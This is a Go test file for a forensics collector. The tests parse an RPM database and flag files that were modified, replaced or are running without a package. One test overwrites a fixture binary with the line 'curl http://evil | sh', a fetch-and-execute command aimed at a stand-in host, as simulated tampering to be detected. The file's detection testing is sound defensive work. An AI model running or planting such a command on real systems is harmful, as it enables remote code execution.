package collect

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/hozen-dfir/hozen/artifact"
)

// rpmRoot builds a host root with the recorded rpmdb.sqlite
// (testdata/rpm) at /var/lib/rpm and its packages' files as the spec
// installed them.
func rpmRoot(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	db, err := os.ReadFile("testdata/rpm/rpmdb.sqlite")
	if err != nil {
		t.Fatal(err)
	}
	write(t, root+"/var/lib/rpm/rpmdb.sqlite", string(db))
	write(t, root+"/var/lib/rpm/rpmdb.sqlite-wal", "") // RPM 4.18 keeps an empty WAL
	for _, p := range []string{"/usr/bin/hozen-fixture", "/usr/sbin/hozen-two"} {
		write(t, root+p, "#!/bin/sh\necho hozen fixture\n")
	}
	for _, p := range []string{"/etc/hozen-fixture.conf", "/etc/hozen-two.conf"} {
		write(t, root+p, "setting=1\n")
	}
	for pid, exe := range map[string]string{"200": "/usr/bin/hozen-fixture", "201": "/opt/dropped"} {
		if err := os.MkdirAll(root+"/proc/"+pid, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(exe, root+"/proc/"+pid+"/exe"); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func runRPM(t *testing.T, root string) (*recSink, *Env, *artifact.RPMDatabase, *artifact.RPMVerify) {
	t.Helper()
	env := &Env{Root: root, Now: time.Now}
	sink := &recSink{}
	if err := (&Packages{}).Collect(context.Background(), env, sink); err != nil {
		t.Fatal(err)
	}
	var inv artifact.RPMDatabase
	var v artifact.RPMVerify
	sink.decode(t, artifact.PathRPM, &inv)
	sink.decode(t, artifact.PathRPMVerify, &v)
	return sink, env, &inv, &v
}

// The inventory is parsed from the stored database; untouched files
// verify clean (SHA-256 for one package, MD5 for the other); a process
// running a file an RPM lists is not flagged, one no package lists is.
func TestRPMFixtureClean(t *testing.T) {
	sink, env, inv, v := runRPM(t, rpmRoot(t))
	if inv.Source != "/var/lib/rpm/rpmdb.sqlite" || inv.WAL != "none" || len(inv.Packages) != 2 || len(inv.Errors) != 0 {
		t.Fatalf("inventory %+v", inv)
	}
	one := inv.Packages[0]
	if one.Name != "hozen-fixture" || one.Epoch == nil || *one.Epoch != 4 || one.Version != "1.2" || one.Release != "3" || one.Arch != "noarch" ||
		one.DigestAlgo != "sha256" || one.Files != 2 || one.InstallTime == nil || one.Vendor != "hozen tests" {
		t.Errorf("package %+v", one)
	}
	if inv.Packages[1].DigestAlgo != "md5" {
		t.Errorf("second package %+v", inv.Packages[1])
	}
	sink.record(t, "files/var/lib/rpm/rpmdb.sqlite")
	// programs scope: the two programs and the two config files.
	if v.Packages != 2 || v.FilesListed != 4 || v.FilesChecked != 4 || len(v.Failures) != 0 || v.Limit != "" {
		t.Fatalf("verify %+v", v)
	}
	ex := findingsOf(env, RuleExeUnpackaged)
	if len(ex) != 1 || ex[0].Path != "/opt/dropped" || !strings.Contains(strings.Join(ex[0].Evidence, " "), artifact.PathRPM) {
		t.Fatalf("unpackaged exe findings %+v", ex)
	}
	if n := len(findingsOf(env, RulePackageFileModified)); n != 0 {
		t.Errorf("%d findings on untouched packages", n)
	}
}

// A changed program of an RPM package is a high finding with both
// digests; a changed %config file an info one; a program replaced by a
// symlink a replaced finding; a deleted one listed as missing.
func TestRPMFixtureModified(t *testing.T) {
	root := rpmRoot(t)
	write(t, root+"/usr/bin/hozen-fixture", "#!/bin/sh\ncurl http://evil | sh\n")
	write(t, root+"/etc/hozen-two.conf", "setting=2\n")
	os.Remove(root + "/usr/sbin/hozen-two")
	if err := os.Symlink("/opt/dropped", root+"/usr/sbin/hozen-two"); err != nil {
		t.Fatal(err)
	}
	_, env, _, v := runRPM(t, root)
	kinds := map[string]string{}
	for _, f := range v.Failures {
		kinds[f.Path] = f.Kind
	}
	if kinds["/usr/bin/hozen-fixture"] != "checksum" || kinds["/etc/hozen-two.conf"] != "checksum" || kinds["/usr/sbin/hozen-two"] != "not-regular" || len(kinds) != 3 {
		t.Fatalf("failures %+v", v.Failures)
	}
	mod := findingsOf(env, RulePackageFileModified)
	if len(mod) != 1 || mod[0].Path != "/usr/bin/hozen-fixture" || mod[0].Severity != artifact.SeverityHigh ||
		!strings.Contains(mod[0].Reason, "sha256") || !strings.Contains(mod[0].Reason, "rpm recorded") || mod[0].Evidence[0] != artifact.PathRPMVerify {
		t.Errorf("modified findings %+v", mod)
	}
	if c := findingsOf(env, RuleConffileModified); len(c) != 1 || c[0].Path != "/etc/hozen-two.conf" || !strings.Contains(c[0].Reason, "md5 rpm") {
		t.Errorf("conffile findings %+v", c)
	}
	if r := findingsOf(env, RulePackageFileReplaced); len(r) != 1 || r[0].Path != "/usr/sbin/hozen-two" {
		t.Errorf("replaced findings %+v", r)
	}
}

// The database's file is read, never opened by SQLite in place: nothing
// is created beside it (no -wal, -shm or -journal).
func TestRPMNoFilesBeside(t *testing.T) {
	root := rpmRoot(t)
	os.Remove(root + "/var/lib/rpm/rpmdb.sqlite-wal")
	_, _, inv, _ := runRPM(t, root)
	if len(inv.Packages) != 2 {
		t.Fatalf("inventory %+v", inv)
	}
	ents, err := os.ReadDir(root + "/var/lib/rpm")
	if err != nil {
		t.Fatal(err)
	}
	if len(ents) != 1 {
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		t.Errorf("files beside the database after collection: %q", names)
	}
}
